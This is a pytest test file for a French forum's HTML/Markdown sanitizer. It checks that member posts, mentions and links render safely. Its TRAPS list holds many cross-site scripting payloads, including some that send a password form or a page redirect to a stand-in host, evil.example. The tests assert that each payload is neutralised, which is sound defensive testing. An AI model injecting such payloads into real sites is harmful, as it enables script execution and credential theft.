"""Members' words: what they typed is shown, nothing of it runs."""

import json
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import text
from tests.services import ROOT, leave_out

XSS = ROOT.parent / "shared/data/xss"

TAGS = {
    *("a", "blockquote", "br", "code", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "s"),
    *("strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"a": {"href", "title", "rel", "class"}, "ol": {"start"}}
PROTOCOLS = {"", "http", "https", "mailto", "tel"}


class Read(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.items: list[str] = []
        self.links: list[str] = []
        self.words = ""
        self._open: list[int] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        self.tags.append((tag, found))
        if tag == "li":
            self.items.append("")
            self._open.append(len(self.items) - 1)
        if tag == "a" and "href" in found:
            self.links.append(found["href"])

    def handle_endtag(self, tag: str) -> None:
        if tag == "li" and self._open:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        self.words += data
        for item in self._open[-1:]:
            self.items[item] += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!--", {}))

    def unknown_decl(self, data: str) -> None:
        self.tags.append(("![", {}))


def dangers(html: str) -> Iterator[str]:
    """All that is not on the list of what is allowed."""
    for tag, attributes in Read(html).tags:
        if tag not in TAGS:
            yield f"<{tag}>"
        for name, value in attributes.items():
            if name not in ATTRIBUTES.get(tag, set()):
                yield f"<{tag} {name}>"
            if name == "href" and protocol(value) not in PROTOCOLS:
                yield f"<{tag} href={value}>"


def protocol(address: str) -> str:
    """As a browser reads it: control characters and blanks do not count."""
    shown = "".join(c for c in address if c > " ")
    try:
        return urlsplit(shown).scheme.lower()
    except ValueError:
        return ""


def squeezed(words: str) -> str:
    return "".join(words.replace("\xa0", " ").split())


def shared(name: str) -> list[dict[str, str]]:
    if not (XSS / name).exists():
        leave_out(f"the shared data are absent ({name})")
    found: list[dict[str, str]] = json.loads((XSS / name).read_text())
    return found


def mentioned(handle: str) -> str | None:
    """Only Alice exists, and her name is a trap."""
    return text.link("/membres/1", '@Alice "><b>', "mention") if handle == "alice" else None


# --- nothing runs ------------------------------------------------------------------------------

TRAPS = [
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="javascript&colon;123">x</a>',
    '<a href="vb script:1">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript:1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<a title="<a onmouseover=alert(1) " href="https://x.example">x</a>',
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    '<ol start="\'><img src=x onerror=alert(1)>"><li>x</ol>',
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<<img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=https://x.example class=mention onclick=alert(1) id=content data-confirm=x>x</a>",
]


@pytest.mark.parametrize("trap", TRAPS)
def test_a_trap_is_mute(trap: str) -> None:
    for words in (
        trap,
        f"- {trap}\n- b",
        f"> {trap}",
        f"Bonjour {trap} @alice",
        f"@alice\n\n{trap}",
    ):
        assert list(dangers(text.clean(words, mentioned))) == [], words


@pytest.mark.data
def test_every_known_payload_is_mute() -> None:
    for payload in shared("html_payloads.json"):
        words = payload["payload"]
        for shown in (words, f"{words}\n\n@alice", f"@alice {words} @alice"):
            found = list(dangers(text.clean(shown, mentioned)))
            assert found == [], (payload["id"], payload["title"])


@settings(max_examples=400, derandomize=True)
@given(
    st.lists(
        st.sampled_from(
            [*"<>\"'`=&;#@/\\[]()*_-!\n\t ", "<a ", "href=", "title=", "<ol start=", "<pre>",
             "</a>", "<code>", "<script", "@alice", "javascript:", "https://x.example", "x", "<!--",
             "```"]
        ),
        max_size=40,
    ).map("".join)
)  # fmt: skip
def test_no_mixture_of_pieces_runs(words: str) -> None:
    assert list(dangers(text.clean(words, mentioned))) == []


def test_a_link_tells_the_other_site_nothing() -> None:
    html = text.clean("[x](https://x.example) https://y.example <a href=https://z.example>z</a>")
    assert [attributes["rel"] for tag, attributes in Read(html).tags if tag == "a"] == [
        "noopener nofollow"
    ] * 3


# --- what was meant is there -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("Une\nligne", "<p>Une<br>\nligne</p>\n"),
        ("**gras** *léger* ~~ôté~~", "<p><strong>gras</strong> <em>léger</em> <s>ôté</s></p>\n"),
        ("- un\n- deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>\n"),
        ("3. trois\n4. quatre", '<ol start="3">\n<li>trois</li>\n<li>quatre</li>\n</ol>\n'),
        ("> cité", "<blockquote>\n<p>cité</p>\n</blockquote>\n"),
        ("# Titre", "<h3>Titre</h3>\n"),
        ("#### Petit titre", "<h4>Petit titre</h4>\n"),
        ("<h1>Titre</h1>", "<h3>Titre</h3>"),
        ("<b>gras</b> <i>léger</i>", "<p><strong>gras</strong> <em>léger</em></p>\n"),
        ("<ul><li>un</li></ul>", "<ul><li>un</li></ul>"),
        ("    - en retrait", "<ul>\n<li>en retrait</li>\n</ul>\n"),
        ("Le <nom> du salarié", "<p>Le &lt;nom&gt; du salarié</p>\n"),
        ("Écrire à <prénom.nom>", "<p>Écrire à &lt;prénom.nom&gt;</p>\n"),
        ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>\n"),
        ("3 < 4 & 5", "<p>3 &lt; 4 &amp; 5</p>\n"),
    ],
)
def test_what_was_typed_is_shown(typed: str, html: str) -> None:
    assert text.clean(typed) == html


@pytest.mark.parametrize("nowhere", ["https://", "http:", "mailto:"])
def test_a_link_that_leads_nowhere_is_no_link(nowhere: str) -> None:
    assert "<a" not in text.clean(f"[le texte]({nowhere})")


def test_addresses_become_links() -> None:
    html = text.clean("Voir www.pole-emploi.fr, https://inclusion.beta.gouv.fr/x?a=1&b=2 (utile) "
                      "ou écrire à contact@exemple.fr.")  # fmt: skip
    assert Read(html).links == [
        "https://www.pole-emploi.fr",
        "https://inclusion.beta.gouv.fr/x?a=1&b=2",
        "mailto:contact@exemple.fr",
    ]


@pytest.mark.data
def test_benign_html_keeps_its_lists_and_links() -> None:
    for document in shared("benign_html.json"):
        before, after = Read(document["payload"]), Read(text.clean(document["payload"]))
        assert list(dangers(text.clean(document["payload"]))) == []
        kept = squeezed(after.words)
        for item in before.items:
            assert squeezed(item) in kept, (document["id"], item)
        assert len(after.items) >= len(before.items), document["id"]
        wanted = [link for link in before.links if link.startswith(("http:", "https:", "mailto:"))]
        found = {link.strip() for link in after.links}
        missing = [link for link in wanted if link.strip() not in found]
        assert missing == [], document["id"]


# --- mentions ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    [
        "@alice a raison",
        "Merci @alice.",
        "(@alice)",
        "Merci **@alice**",
        "> @alice",
        "- @alice",
        "@Alice",
    ],
)
def test_a_member_is_called_by_their_handle(words: str) -> None:
    html = text.clean(words, mentioned)
    assert Read(html).links == ["/membres/1"]
    assert "alice" in text.handles(words)


@pytest.mark.parametrize(
    "words",
    [
        "alice",
        "@bruno",
        "contact@alice.fr",
        "me.contact@alice",
        "`@alice`",
        "```\n@alice\n```",
        "<pre>@alice</pre>",
        "[@alice](https://x.example)",
        "https://x.example/@alice",
        "[x](https://x.example '> @alice')",
        "<a href='https://x.example' title='> @alice'>x</a>",
        "<ol start='> @alice'><li>x</li></ol>",
    ],
)
def test_nobody_is_called_inside_a_link_a_code_or_an_address(words: str) -> None:
    assert "/membres/1" not in Read(text.clean(words, mentioned)).links
    assert text.clean(words, mentioned) == text.clean(words)


def test_a_name_cannot_break_the_page() -> None:
    assert list(dangers(text.clean("@alice", mentioned))) == []
    assert 'Alice "><b>' in Read(text.clean("@alice", mentioned)).words


# --- small words -------------------------------------------------------------------------------


def test_characters_that_turn_or_hide_words_are_removed() -> None:
    assert text.plain("fac\u202eture\u2066\u0000\u0007\x7f") == "facture"
    assert text.plain("une\r\nligne\tpuis") == "une\nligne\tpuis"
    assert text.plain("e\u0301te\u0301") == "été"
    assert "\u202e" not in text.clean("[fac\u202eture](https://x.example/\u202e)")


def test_an_excerpt_is_words_cut_between_two() -> None:
    html = text.clean("Bonjour **à tous**, <nom>\n\n- un\n- deux & trois")
    assert text.excerpt(html) == "Bonjour à tous, <nom> un deux & trois"
    cut = text.excerpt(text.clean("mot " * 100), 20)
    assert cut == "mot mot mot mot mot…"
    assert len(text.excerpt(text.clean("a" * 500), 20)) <= 21
    assert text.excerpt(text.clean("[x](https://x.example 'a > b') y")) == "x y"


def test_a_quotation_is_markdown() -> None:
    assert text.quoted("un\n\ndeux\n") == "> un\n>\n> deux\n\n"
    assert Read(text.clean(text.quoted("- un\n- deux"))).items == ["un", "deux"]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("lycée", "lycées"),
        ("Lycée", "LYCEE"),
        ("cœur", "coeur"),
        ("employeur", "employeurs"),
        ("l'insertion", "insertion"),
        ("d’insertion", "insertion"),
        ("conventions", "convention"),
        ("PMSMP", "pmsmp"),
        ("salarié", "salariées"),
        ("accompagnée", "accompagne"),
        ("mobilité", "mobilite"),
        ("métiers", "METIER"),
    ],
)
def test_two_forms_of_a_word_have_one_term(one: str, other: str) -> None:
    assert text.terms(one) == text.terms(other) != set()


def test_small_words_have_no_term() -> None:
    assert text.terms("Bonjour, est-ce que vous avez une idée de ce que c'est ?") == text.terms(
        "idée"
    )
    assert text.terms("") == set()
    assert max(map(len, text.terms("x" * 500))) == 40


@pytest.fixture
def impatient_threads() -> Iterator[None]:
    """Threads that take turns at each instruction, or nearly so."""
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    yield
    sys.setswitchinterval(interval)


@pytest.mark.usefixtures("impatient_threads")
def test_two_people_who_write_at_once_never_mix_their_words() -> None:
    def write(number: int) -> tuple[str, set[str]]:
        words = f"- **secret{number}** <b>de {number}</b> https://exemple{number}.fr/page\n" * 3
        return text.clean(words), text.terms(f"logements{number} collectives{number} juridiques")

    one_by_one = [write(number) for number in range(100)]
    with ThreadPoolExecutor(8) as people:
        assert list(people.map(write, range(100))) == one_by_one
